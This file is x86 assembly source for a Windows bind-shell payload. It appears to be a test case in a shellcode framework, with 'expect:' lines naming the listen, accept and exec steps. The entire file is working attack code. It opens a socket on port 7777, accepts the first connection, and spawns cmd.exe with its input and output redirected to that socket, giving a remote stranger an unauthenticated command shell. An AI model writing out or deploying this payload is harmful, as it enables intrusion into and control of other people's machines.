; SPDX-License-Identifier: GPL-2.0-or-later
; A shell on port 7777 of whoever comes first.
; expect: listen 7777
; expect: accept
; expect: exec C:\Windows\System32\cmd.exe cmd
%include "way32.inc"
	sub esp, 0x200
	mov edi, esp
	function "ws2_32.dll", "WSAStartup"
	push edi
	push 0x202
	call eax
	function "ws2_32.dll", "WSASocketA"
	push 0
	push 0
	push 0
	push 0
	push 1
	push 2
	call eax
	mov esi, eax
	mov dword [edi], 0x611e0002 ; port 7777, AF_INET
	mov dword [edi + 4], 0
	function "ws2_32", "bind"
	push 16
	push edi
	push esi
	call eax
	function "ws2_32.dll", "listen"
	push 2
	push esi
	call eax
	function "ws2_32.dll", "accept"
	push 0
	push 0
	push esi
	call eax
	mov esi, eax
	cld
	push edi
	xor eax, eax
	mov ecx, 32
	rep stosd
	pop edi
	mov byte [edi], 0x44
	mov dword [edi + 0x2c], 0x101
	mov [edi + 0x38], esi
	mov [edi + 0x3c], esi
	mov [edi + 0x40], esi
	function "kernel32.dll", "CreateProcessA"
	lea ecx, [edi + 0x60]
	push ecx
	push edi
	push 0
	push 0
	push 0
	push 1
	push 0
	push 0
	text "cmd"
	push 0
	call eax
	function "kernel32.dll", "WaitForSingleObject"
	push -1
	push dword [edi + 0x60]
	call eax
	function "kernel32.dll", "ExitProcess"
	push 0
	call eax
